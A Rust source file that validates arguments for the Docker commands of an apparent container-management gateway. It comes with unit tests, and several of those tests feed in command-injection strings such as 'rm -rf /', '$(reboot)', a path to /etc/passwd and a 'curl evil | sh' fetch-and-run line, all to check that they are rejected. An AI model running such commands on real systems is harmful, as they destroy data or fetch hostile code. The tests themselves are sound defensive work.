//! The Docker verbs' arguments: which container or image, and for `docker.run` the bounded
//! set of options an operator may set. What `docker.run` cannot express (volumes, privileged
//! mode, capabilities, host networking, devices) is left out on purpose: the gateway sets
//! none of them, so a container started through ViWorkS stays a container.

use core::net::IpAddr;
use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::names::{ContainerRef, ImageRef};
use super::{Args, ArgsError, check_argv, fields};

/// The default number of log lines `docker.logs` returns.
const DEFAULT_TAIL: u32 = 200;
/// The most log lines `docker.logs` may ask for.
const MAX_TAIL: u32 = 10_000;
/// The default grace period of `docker.stop`, in seconds.
const DEFAULT_STOP_SECS: u32 = 10;
/// The longest grace period `docker.stop` may ask for, in seconds.
const MAX_STOP_SECS: u32 = 300;
/// How much longer than its grace period a stop command needs: SIGKILL, the engine's
/// bookkeeping and the result's trip back.
const STOP_MARGIN: Duration = Duration::from_secs(30);
/// The most environment variables `docker.run` may set.
const MAX_ENV: usize = 64;
/// The longest environment variable name, in bytes.
const MAX_ENV_KEY_LEN: usize = 128;
/// The longest environment variable value, in bytes.
const MAX_ENV_VALUE_LEN: usize = 4096;
/// The most port mappings `docker.run` may ask for.
const MAX_PORTS: usize = 32;
/// The smallest memory limit, in MiB: the Docker Engine refuses anything below 6 MiB.
const MIN_MEMORY_MB: u32 = 6;
/// The largest memory limit, in MiB (1 TiB).
const MAX_MEMORY_MB: u32 = 1_048_576;
/// The smallest CPU limit, in CPUs.
const MIN_CPUS: f64 = 0.01;
/// The largest CPU limit, in CPUs.
const MAX_CPUS: f64 = 256.0;

/// Arguments of `docker.ps`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[non_exhaustive]
pub struct DockerPs {
    /// List stopped containers too, not only running ones. Default `false`.
    pub all: bool,
}

/// Arguments of the verbs that act on one container and nothing else: `docker.inspect`,
/// `docker.stats` and `docker.start`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[non_exhaustive]
pub struct DockerTarget {
    /// The container, by name or id.
    pub container: ContainerRef,
}

/// Arguments of `docker.logs`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[non_exhaustive]
pub struct DockerLogs {
    /// The container, by name or id.
    pub container: ContainerRef,
    /// How many of the last lines to return: 1 to 10,000, default 200.
    pub tail: u32,
    /// Prefix each line with its timestamp. Default `false`.
    pub timestamps: bool,
}

/// Arguments of `docker.stop` and `docker.restart`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[non_exhaustive]
pub struct DockerStop {
    /// The container, by name or id.
    pub container: ContainerRef,
    /// Seconds between SIGTERM and SIGKILL: 0 to 300, default 10.
    pub timeout_secs: u32,
}

impl DockerStop {
    /// The shortest command timeout that does not cut this stop off during its grace period.
    pub(super) fn min_timeout(&self) -> Duration {
        Duration::from_secs(u64::from(self.timeout_secs)) + STOP_MARGIN
    }
}

/// Arguments of `docker.rm`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[non_exhaustive]
pub struct DockerRm {
    /// The container, by name or id.
    pub container: ContainerRef,
    /// Remove the container even while it runs (it is killed first). Default `false`.
    pub force: bool,
}

/// Arguments of `docker.pull`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[non_exhaustive]
pub struct DockerPull {
    /// The image to pull.
    pub image: ImageRef,
}

/// Arguments of `docker.run`: create a container from an image and start it.
#[derive(Clone, Debug, PartialEq, Serialize)]
#[non_exhaustive]
pub struct DockerRun {
    /// The image to run; the gateway does not pull it implicitly (use `docker.pull`).
    pub image: ImageRef,
    /// The new container's name (Docker picks one when absent).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub name: Option<ContainerRef>,
    /// Environment variables: at most 64, names `[A-Za-z_][A-Za-z0-9_]*` of at most 128
    /// bytes, values of at most 4096 bytes without NUL.
    pub env: BTreeMap<String, String>,
    /// Published ports: at most 32, no two on the same host address, port and protocol.
    pub ports: Vec<PortMapping>,
    /// Memory limit in MiB: 6 to 1,048,576.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub memory_mb: Option<u32>,
    /// CPU limit in CPUs: 0.01 to 256.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cpus: Option<f64>,
    /// What Docker does when the container exits (Docker's default, `no`, when absent).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub restart: Option<RestartPolicy>,
    /// The command and its arguments, replacing the image's `CMD`: 1 to 64 elements, each at
    /// most 4096 bytes without NUL. Passed to the engine as a list, never through a shell.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub command: Option<Vec<String>>,
}

impl DockerRun {
    /// The memory limit in bytes, as the Docker Engine API takes it.
    pub fn memory_bytes(&self) -> Option<u64> {
        self.memory_mb.map(|mb| u64::from(mb) * 1024 * 1024)
    }

    /// The CPU limit in billionths of a CPU (`NanoCpus`), as the Docker Engine API takes it.
    pub fn nano_cpus(&self) -> Option<i64> {
        // `cpus` is within 0.01..=256, so the product is within 1e7..=2.56e11 and fits; `as`
        // saturates in any case.
        self.cpus.map(|cpus| (cpus * 1e9).round() as i64)
    }
}

/// One published port of `docker.run`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[non_exhaustive]
pub struct PortMapping {
    /// The port on the agent's machine: 1 to 65535.
    pub host: u16,
    /// The port inside the container: 1 to 65535.
    pub container: u16,
    /// The transport protocol. Default `tcp`.
    pub protocol: Protocol,
    /// The host address to bind, an IPv4 or IPv6 literal (all addresses when absent).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub host_ip: Option<IpAddr>,
}

/// The transport protocol of a published port.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Protocol {
    /// TCP, the default.
    #[default]
    Tcp,
    /// UDP.
    Udp,
}

impl Protocol {
    /// The protocol as Docker spells it in a port key (`80/tcp`).
    pub fn as_str(self) -> &'static str {
        match self {
            Protocol::Tcp => "tcp",
            Protocol::Udp => "udp",
        }
    }
}

/// What Docker does when a container exits.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum RestartPolicy {
    /// Never restart it (`no`).
    No,
    /// Restart it when it exits with a non-zero status (`on-failure`).
    OnFailure,
    /// Always restart it, also when the engine starts (`always`).
    Always,
    /// Restart it unless an operator stopped it (`unless-stopped`).
    UnlessStopped,
}

impl RestartPolicy {
    /// The policy as the Docker Engine API spells it.
    pub fn as_str(self) -> &'static str {
        match self {
            RestartPolicy::No => "no",
            RestartPolicy::OnFailure => "on-failure",
            RestartPolicy::Always => "always",
            RestartPolicy::UnlessStopped => "unless-stopped",
        }
    }
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawPs {
    #[serde(default)]
    all: bool,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawTarget {
    container: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawLogs {
    container: String,
    #[serde(default = "default_tail")]
    tail: u32,
    #[serde(default)]
    timestamps: bool,
}

fn default_tail() -> u32 {
    DEFAULT_TAIL
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawStop {
    container: String,
    #[serde(default = "default_stop_secs")]
    timeout_secs: u32,
}

fn default_stop_secs() -> u32 {
    DEFAULT_STOP_SECS
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawRm {
    container: String,
    #[serde(default)]
    force: bool,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawPull {
    image: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawRun {
    image: String,
    #[serde(default)]
    name: Option<String>,
    #[serde(default)]
    env: BTreeMap<String, String>,
    #[serde(default)]
    ports: Vec<RawPort>,
    #[serde(default)]
    memory_mb: Option<u32>,
    #[serde(default)]
    cpus: Option<f64>,
    #[serde(default)]
    restart: Option<RestartPolicy>,
    #[serde(default)]
    command: Option<Vec<String>>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawPort {
    host: u16,
    container: u16,
    #[serde(default)]
    protocol: Protocol,
    #[serde(default)]
    host_ip: Option<String>,
}

fn container(raw: String) -> Result<ContainerRef, ArgsError> {
    ContainerRef::for_field("container", raw)
}

pub(super) fn parse_ps(args: &Value) -> Result<Args, ArgsError> {
    let raw: RawPs = fields(args)?;
    Ok(Args::DockerPs(DockerPs { all: raw.all }))
}

fn target(args: &Value) -> Result<DockerTarget, ArgsError> {
    let raw: RawTarget = fields(args)?;
    Ok(DockerTarget { container: container(raw.container)? })
}

pub(super) fn parse_inspect(args: &Value) -> Result<Args, ArgsError> {
    target(args).map(Args::DockerInspect)
}

pub(super) fn parse_stats(args: &Value) -> Result<Args, ArgsError> {
    target(args).map(Args::DockerStats)
}

pub(super) fn parse_start(args: &Value) -> Result<Args, ArgsError> {
    target(args).map(Args::DockerStart)
}

pub(super) fn parse_logs(args: &Value) -> Result<Args, ArgsError> {
    let raw: RawLogs = fields(args)?;
    if !(1..=MAX_TAIL).contains(&raw.tail) {
        return Err(ArgsError::InvalidField { field: "tail", reason: "must be between 1 and 10000" });
    }
    Ok(Args::DockerLogs(DockerLogs {
        container: container(raw.container)?,
        tail: raw.tail,
        timestamps: raw.timestamps,
    }))
}

fn stop(args: &Value) -> Result<DockerStop, ArgsError> {
    let raw: RawStop = fields(args)?;
    if raw.timeout_secs > MAX_STOP_SECS {
        return Err(ArgsError::InvalidField { field: "timeout_secs", reason: "must be between 0 and 300" });
    }
    Ok(DockerStop { container: container(raw.container)?, timeout_secs: raw.timeout_secs })
}

pub(super) fn parse_stop(args: &Value) -> Result<Args, ArgsError> {
    stop(args).map(Args::DockerStop)
}

pub(super) fn parse_restart(args: &Value) -> Result<Args, ArgsError> {
    stop(args).map(Args::DockerRestart)
}

pub(super) fn parse_rm(args: &Value) -> Result<Args, ArgsError> {
    let raw: RawRm = fields(args)?;
    Ok(Args::DockerRm(DockerRm { container: container(raw.container)?, force: raw.force }))
}

pub(super) fn parse_pull(args: &Value) -> Result<Args, ArgsError> {
    let raw: RawPull = fields(args)?;
    Ok(Args::DockerPull(DockerPull { image: ImageRef::for_field("image", raw.image)? }))
}

pub(super) fn parse_run(args: &Value) -> Result<Args, ArgsError> {
    let raw: RawRun = fields(args)?;
    let image = ImageRef::for_field("image", raw.image)?;
    let name = raw.name.map(|name| ContainerRef::for_field("name", name)).transpose()?;
    check_env(&raw.env)?;
    let ports = ports(raw.ports)?;
    if raw.memory_mb.is_some_and(|mb| !(MIN_MEMORY_MB..=MAX_MEMORY_MB).contains(&mb)) {
        return Err(ArgsError::InvalidField { field: "memory_mb", reason: "must be between 6 and 1048576" });
    }
    // NaN and infinities cannot come from JSON, but the check does not rely on that.
    if raw.cpus.is_some_and(|cpus| !(cpus.is_finite() && (MIN_CPUS..=MAX_CPUS).contains(&cpus))) {
        return Err(ArgsError::InvalidField { field: "cpus", reason: "must be between 0.01 and 256" });
    }
    if let Some(command) = &raw.command {
        if command.is_empty() {
            return Err(ArgsError::InvalidField { field: "command", reason: "must not be empty when given" });
        }
        check_argv("command", command)?;
    }
    Ok(Args::DockerRun(DockerRun {
        image,
        name,
        env: raw.env,
        ports,
        memory_mb: raw.memory_mb,
        cpus: raw.cpus,
        restart: raw.restart,
        command: raw.command,
    }))
}

fn check_env(env: &BTreeMap<String, String>) -> Result<(), ArgsError> {
    let invalid = |reason| Err(ArgsError::InvalidField { field: "env", reason });
    if env.len() > MAX_ENV {
        return invalid("has more than 64 variables");
    }
    for (key, value) in env {
        if key.is_empty() || key.len() > MAX_ENV_KEY_LEN {
            return invalid("has a name that is not 1 to 128 bytes long");
        }
        let bytes = key.as_bytes();
        let first_ok = bytes[0].is_ascii_alphabetic() || bytes[0] == b'_';
        if !first_ok || !bytes.iter().all(|&b| b.is_ascii_alphanumeric() || b == b'_') {
            return invalid("has a name that does not match [A-Za-z_][A-Za-z0-9_]*");
        }
        if value.len() > MAX_ENV_VALUE_LEN {
            return invalid("has a value longer than 4096 bytes");
        }
        if value.contains('\0') {
            return invalid("has a value that contains a NUL byte");
        }
    }
    Ok(())
}

fn ports(raw: Vec<RawPort>) -> Result<Vec<PortMapping>, ArgsError> {
    if raw.len() > MAX_PORTS {
        return Err(ArgsError::InvalidField { field: "ports", reason: "has more than 32 mappings" });
    }
    let mut seen = BTreeSet::new();
    let mut ports = Vec::with_capacity(raw.len());
    for (index, port) in raw.into_iter().enumerate() {
        let invalid = |reason| ArgsError::InvalidItem { field: "ports", index, reason };
        if port.host == 0 {
            return Err(invalid("has a host port of 0; it must be between 1 and 65535"));
        }
        if port.container == 0 {
            return Err(invalid("has a container port of 0; it must be between 1 and 65535"));
        }
        let host_ip = match port.host_ip {
            None => None,
            Some(text) => {
                Some(text.parse::<IpAddr>().map_err(|_| invalid("has a host_ip that is not an IPv4 or IPv6 address"))?)
            }
        };
        if !seen.insert((host_ip, port.host, port.protocol)) {
            return Err(invalid("publishes a host address, port and protocol already published"));
        }
        ports.push(PortMapping { host: port.host, container: port.container, protocol: port.protocol, host_ip });
    }
    Ok(ports)
}

/// The least timeout a stop with the default grace period needs.
#[cfg(test)]
pub(super) fn default_stop_timeout() -> Duration {
    Duration::from_secs(u64::from(DEFAULT_STOP_SECS)) + STOP_MARGIN
}

/// The least timeout a stop with the longest grace period needs.
#[cfg(test)]
pub(super) fn max_stop_timeout() -> Duration {
    Duration::from_secs(u64::from(MAX_STOP_SECS)) + STOP_MARGIN
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn run(args: Value) -> Result<DockerRun, ArgsError> {
        match parse_run(&args)? {
            Args::DockerRun(run) => Ok(run),
            other => panic!("docker.run parsed as {other:?}"),
        }
    }

    fn refusal(result: Result<impl std::fmt::Debug, ArgsError>) -> (&'static str, &'static str) {
        match result {
            Err(ArgsError::InvalidField { field, reason }) | Err(ArgsError::InvalidItem { field, reason, .. }) => {
                (field, reason)
            }
            other => panic!("expected a rule refusal, got {other:?}"),
        }
    }

    fn malformed(result: Result<impl std::fmt::Debug, ArgsError>) -> bool {
        matches!(result, Err(ArgsError::Malformed(_)))
    }

    #[test]
    fn ps_defaults_to_running_containers() {
        assert_eq!(parse_ps(&json!({})).ok(), Some(Args::DockerPs(DockerPs { all: false })));
        assert_eq!(parse_ps(&json!({"all": true})).ok(), Some(Args::DockerPs(DockerPs { all: true })));
        assert!(malformed(parse_ps(&json!({"all": "yes"}))));
        assert!(malformed(parse_ps(&json!({"all": 1}))));
    }

    #[test]
    fn single_container_verbs_take_a_container_and_nothing_else() {
        for parser in [parse_inspect, parse_stats, parse_start] {
            assert!(parser(&json!({"container": "web"})).is_ok());
            assert!(parser(&json!({"container": "3f4e8a9b2c1d"})).is_ok());
            assert!(malformed(parser(&json!({}))));
            assert!(malformed(parser(&json!({"container": 7}))));
            assert!(malformed(parser(&json!({"container": ["web"]}))));
            assert!(malformed(parser(&json!({"container": "web", "all": true}))));
            for attack in ["; rm -rf /", "$(reboot)", "`id`", "web\nid", "-f", "../../etc/passwd"] {
                assert_eq!(refusal(parser(&json!({"container": attack}))).0, "container", "{attack:?}");
            }
        }
    }

    #[test]
    fn logs_tail_is_bounded() {
        let logs = |args| match parse_logs(&args) {
            Ok(Args::DockerLogs(logs)) => Ok(logs),
            Ok(other) => panic!("{other:?}"),
            Err(e) => Err(e),
        };
        let defaults = logs(json!({"container": "web"})).expect("defaults");
        assert_eq!((defaults.tail, defaults.timestamps), (200, false));
        assert_eq!(logs(json!({"container": "web", "tail": 1})).map(|l| l.tail).ok(), Some(1));
        assert_eq!(logs(json!({"container": "web", "tail": 10_000})).map(|l| l.tail).ok(), Some(10_000));
        assert_eq!(refusal(logs(json!({"container": "web", "tail": 0}))), ("tail", "must be between 1 and 10000"));
        assert_eq!(refusal(logs(json!({"container": "web", "tail": 10_001}))).0, "tail");
        assert!(malformed(logs(json!({"container": "web", "tail": -1}))));
        assert!(malformed(logs(json!({"container": "web", "tail": 2.5}))));
        assert!(malformed(logs(json!({"container": "web", "tail": "200"}))));
        assert!(malformed(logs(json!({"container": "web", "tail": u64::from(u32::MAX) + 1}))));
        assert!(malformed(logs(json!({"container": "web", "timestamps": "true"}))));
    }

    #[test]
    fn stop_grace_period_is_bounded() {
        for parser in [parse_stop, parse_restart] {
            let grace = |args| match parser(&args) {
                Ok(Args::DockerStop(s) | Args::DockerRestart(s)) => Ok(s.timeout_secs),
                Ok(other) => panic!("{other:?}"),
                Err(e) => Err(e),
            };
            assert_eq!(grace(json!({"container": "web"})).ok(), Some(10));
            assert_eq!(grace(json!({"container": "web", "timeout_secs": 0})).ok(), Some(0));
            assert_eq!(grace(json!({"container": "web", "timeout_secs": 300})).ok(), Some(300));
            assert_eq!(refusal(grace(json!({"container": "web", "timeout_secs": 301}))).0, "timeout_secs");
            assert!(malformed(grace(json!({"container": "web", "timeout_secs": -1}))));
            assert!(malformed(grace(json!({"container": "web", "timeout_secs": null}))));
        }
        assert!(matches!(parse_stop(&json!({"container": "web"})), Ok(Args::DockerStop(_))));
        assert!(matches!(parse_restart(&json!({"container": "web"})), Ok(Args::DockerRestart(_))));
    }

    #[test]
    fn rm_and_pull_take_their_one_name() {
        assert_eq!(
            parse_rm(&json!({"container": "web", "force": true})).ok(),
            Some(Args::DockerRm(DockerRm { container: ContainerRef::new("web").expect("name"), force: true }))
        );
        assert!(matches!(parse_rm(&json!({"container": "web"})), Ok(Args::DockerRm(DockerRm { force: false, .. }))));
        assert_eq!(refusal(parse_rm(&json!({"container": "web;id"}))).0, "container");
        assert!(parse_pull(&json!({"image": "busybox"})).is_ok());
        assert_eq!(refusal(parse_pull(&json!({"image": "busybox; curl evil | sh"}))).0, "image");
        assert_eq!(refusal(parse_pull(&json!({"image": "$(id)"}))).0, "image");
        assert!(malformed(parse_pull(&json!({"image": "busybox", "tag": "latest"}))));
        assert!(malformed(parse_pull(&json!({}))));
    }

    #[test]
    fn run_accepts_a_realistic_container() {
        let run = run(json!({
            "image": "ghcr.io/org/app:2.3.1",
            "name": "app-blue",
            "env": {"DATABASE_URL": "postgres://app@db/app", "_DEBUG": "0"},
            "ports": [
                {"host": 443, "container": 8443, "host_ip": "::1"},
                {"host": 53, "container": 53, "protocol": "udp"},
            ],
            "memory_mb": 1024,
            "cpus": 2,
            "restart": "on-failure",
            "command": ["app", "--listen", "0.0.0.0:8443"],
        }))
        .expect("valid");
        assert_eq!(run.name.as_ref().map(ContainerRef::as_str), Some("app-blue"));
        assert_eq!(run.ports[0].protocol, Protocol::Tcp);
        assert_eq!(run.ports[0].host_ip, Some(IpAddr::from([0, 0, 0, 0, 0, 0, 0, 1])));
        assert_eq!(run.ports[1].protocol.as_str(), "udp");
        assert_eq!(run.memory_bytes(), Some(1024 * 1024 * 1024));
        assert_eq!(run.nano_cpus(), Some(2_000_000_000));
        assert_eq!(run.restart.map(RestartPolicy::as_str), Some("on-failure"));
        let minimal = self::run(json!({"image": "busybox"})).expect("only an image");
        assert!(minimal.env.is_empty() && minimal.ports.is_empty() && minimal.command.is_none());
        assert_eq!((minimal.memory_bytes(), minimal.nano_cpus()), (None, None));
    }

    #[test]
    fn run_limits_are_bounded() {
        let with = |key: &str, value: Value| {
            let mut args = json!({"image": "busybox"});
            args[key] = value;
            run(args)
        };
        assert!(with("memory_mb", json!(6)).is_ok());
        assert!(with("memory_mb", json!(1_048_576)).is_ok());
        assert_eq!(refusal(with("memory_mb", json!(5))).0, "memory_mb");
        assert_eq!(refusal(with("memory_mb", json!(1_048_577))).0, "memory_mb");
        assert!(malformed(with("memory_mb", json!(-512))));
        assert!(with("cpus", json!(0.01)).is_ok());
        assert!(with("cpus", json!(256)).is_ok());
        for bad in [json!(0), json!(0.0), json!(0.009), json!(-1), json!(-0.5), json!(256.01), json!(1e300)] {
            assert_eq!(refusal(with("cpus", bad.clone())).0, "cpus", "{bad}");
        }
        assert!(malformed(with("cpus", json!("2"))));
        for policy in ["no", "on-failure", "always", "unless-stopped"] {
            assert_eq!(
                with("restart", json!(policy)).ok().and_then(|r| r.restart).map(RestartPolicy::as_str),
                Some(policy)
            );
        }
        assert!(malformed(with("restart", json!("sometimes"))));
        assert!(malformed(with("restart", json!("on-failure:3"))));
        assert_eq!(refusal(with("name", json!("x"))).0, "name");
        assert_eq!(refusal(with("name", json!("web; rm -rf /"))).0, "name");
        assert_eq!(refusal(with("image", json!("Busybox"))).0, "image");
    }

    #[test]
    fn run_env_is_bounded() {
        let env = |env: Value| run(json!({"image": "busybox", "env": env}));
        let full: BTreeMap<String, String> = (0..64).map(|i| (format!("V{i}"), "x".into())).collect();
        assert!(env(json!(full)).is_ok());
        let over: BTreeMap<String, String> = (0..65).map(|i| (format!("V{i}"), "x".into())).collect();
        assert_eq!(refusal(env(json!(over))), ("env", "has more than 64 variables"));
        assert!(env(json!({"K".repeat(128): ""})).is_ok());
        assert_eq!(refusal(env(json!({"K".repeat(129): ""}))).0, "env");
        assert_eq!(refusal(env(json!({"": "x"}))).0, "env");
        for bad_key in ["1X", "A-B", "A=B", "A B", "$(id)", "PATH\n", "É"] {
            assert_eq!(refusal(env(json!({bad_key: "x"}))).0, "env", "{bad_key:?}");
        }
        assert!(env(json!({"V": "v".repeat(4096)})).is_ok());
        assert_eq!(refusal(env(json!({"V": "v".repeat(4097)}))).0, "env");
        assert_eq!(refusal(env(json!({"V": "a\u{0}b"}))).0, "env");
        assert!(env(json!({"V": "a; rm -rf / $(id) `id`\n"})).is_ok(), "values are data, never shell");
        assert!(malformed(env(json!({"V": 1}))));
        assert!(malformed(env(json!(["V=1"]))));
    }

    #[test]
    fn run_ports_are_bounded() {
        let ports = |ports: Value| run(json!({"image": "busybox", "ports": ports}));
        let full: Vec<Value> = (1..=32).map(|p| json!({"host": p, "container": 80})).collect();
        assert!(ports(json!(full)).is_ok());
        let over: Vec<Value> = (1..=33).map(|p| json!({"host": p, "container": 80})).collect();
        assert_eq!(refusal(ports(json!(over))).0, "ports");
        assert!(ports(json!([{"host": 65535, "container": 65535}])).is_ok());
        assert!(matches!(
            ports(json!([{"host": 80, "container": 80}, {"host": 0, "container": 80}])),
            Err(ArgsError::InvalidItem { field: "ports", index: 1, .. })
        ));
        assert_eq!(refusal(ports(json!([{"host": 80, "container": 0}]))).0, "ports");
        assert!(malformed(ports(json!([{"host": 65536, "container": 80}]))));
        assert!(malformed(ports(json!([{"host": -1, "container": 80}]))));
        assert!(malformed(ports(json!([{"host": 80}]))));
        assert!(malformed(ports(json!([{"host": 80, "container": 80, "protocol": "sctp"}]))));
        assert!(malformed(ports(json!([{"host": 80, "container": 80, "mode": "host"}]))));
        assert!(malformed(ports(json!(["80:80"]))));
        for bad_ip in ["localhost", "0.0.0.0; id", "[::1]", "fe80::1%eth0", "256.0.0.1", ""] {
            assert_eq!(
                refusal(ports(json!([{"host": 80, "container": 80, "host_ip": bad_ip}]))).0,
                "ports",
                "{bad_ip}"
            );
        }
        let twice = json!([{"host": 80, "container": 80}, {"host": 80, "container": 8080}]);
        assert_eq!(refusal(ports(twice)).0, "ports");
        let tcp_and_udp = json!([{"host": 53, "container": 53}, {"host": 53, "container": 53, "protocol": "udp"}]);
        assert!(ports(tcp_and_udp).is_ok());
        let two_addresses = json!([
            {"host": 80, "container": 80, "host_ip": "127.0.0.1"},
            {"host": 80, "container": 80, "host_ip": "::1"},
        ]);
        assert!(ports(two_addresses).is_ok());
    }

    #[test]
    fn run_command_is_bounded() {
        let command = |command: Value| run(json!({"image": "busybox", "command": command}));
        assert!(command(json!(["sh", "-c", "echo hi; sleep 1"])).is_ok(), "the command is an argv, not shell");
        assert!(command(json!(vec!["x"; 64])).is_ok());
        assert_eq!(refusal(command(json!(vec!["x"; 65]))).0, "command");
        assert_eq!(refusal(command(json!([]))), ("command", "must not be empty when given"));
        assert!(command(json!(["x".repeat(4096)])).is_ok());
        assert_eq!(refusal(command(json!(["ok", "x".repeat(4097)]))).0, "command");
        assert_eq!(refusal(command(json!(["a\u{0}"]))).0, "command");
        assert!(malformed(command(json!("echo hi"))));
        assert!(malformed(command(json!([1]))));
    }
}
